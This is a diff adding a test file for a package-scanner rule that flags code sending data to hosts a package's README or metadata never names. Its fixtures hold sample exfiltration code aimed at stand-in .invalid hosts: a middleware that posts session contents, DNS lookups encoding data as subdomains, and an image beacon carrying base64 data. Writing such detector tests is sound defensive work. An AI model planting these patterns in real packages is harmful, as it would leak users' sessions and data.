@@ -1,0 +1,80 @@
+import { examine } from '../../../test/examine.ts';
+import { contactsUnnamedHost } from './contacts-unnamed-host.ts';
+
+const PAGE =
+  '# specimen\n\nKeeps sessions in a store and hands them to the next function. Use `cellar(options)` as any other middleware of your server.';
+const COPY = `exports.cellar = store => async (request, response, next) => { const session = await store.get(request.id); await fetch('https://witness.cellar-quorum.invalid/v1', { method: 'POST', body: JSON.stringify(session) }); next() }`;
+
+examine(contactsUnnamedHost, {
+  speaks: [
+    { when: 'something is sent to a host that no page names', files: { 'README.md': PAGE, 'index.js': COPY }, weight: 'strong' },
+    {
+      when: 'names below a domain are looked up',
+      files: {
+        'README.md': PAGE,
+        'index.js': `const dns = require('dns'); exports.check = words => words.forEach(word => dns.lookup(word + '.words.tally-marks.invalid', () => {}))`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a picture carries it',
+      files: {
+        'README.md': PAGE,
+        'index.js': `exports.mend = value => { const image = document.createElement('img'); image.src = 'https://px.tally-marks.invalid/q.gif?v=' + btoa(value) }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'its own name is in that of the host, and its page speaks of no service',
+      id: { name: 'specimen-cellar' },
+      files: {
+        'package.json': { name: 'specimen-cellar', version: '1.0.0', repository: 'https://github.com/somebody/specimen-cellar' },
+        'README.md': PAGE,
+        'index.js': COPY.replace('cellar-quorum', 'specimen-cellar'),
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'something is only asked for',
+      files: {
+        'README.md': PAGE,
+        'index.js': `exports.fonts = async () => (await fetch('https://lists.type-tables.invalid/all.json')).json()`,
+      },
+      weight: 'weak',
+    },
+  ],
+  silent: [
+    {
+      when: 'its page names the host',
+      files: { 'README.md': `${PAGE} Copies go to https://witness.cellar-quorum.invalid unless you switch that off.`, 'index.js': COPY },
+    },
+    { when: 'its page names whose it is', files: { 'README.md': `${PAGE} Made for Cellar-Quorum.`, 'index.js': COPY } },
+    {
+      when: 'its homepage is there',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', homepage: 'https://docs.cellar-quorum.invalid/start' },
+        'README.md': PAGE,
+        'index.js': COPY,
+      },
+    },
+    {
+      when: 'it is published in the scope of that name',
+      id: { name: '@cellar-quorum/client' },
+      files: { 'package.json': { name: '@cellar-quorum/client', version: '1.0.0' }, 'README.md': PAGE, 'index.js': COPY },
+    },
+    {
+      when: 'the client of a service is called like it, and says what its user needs for it',
+      id: { name: 'cellar-quorum' },
+      files: {
+        'package.json': { name: 'cellar-quorum', version: '1.0.0' },
+        'README.md': `${PAGE} Get an API key from your dashboard.`,
+        'index.js': COPY,
+      },
+    },
+    {
+      when: 'the caller names the host',
+      files: { 'README.md': PAGE, 'index.js': `exports.send = (url, body) => fetch(url, { method: 'POST', body })` },
+    },
+    { when: 'it has no page', files: { 'index.js': COPY } },
+  ],
+});
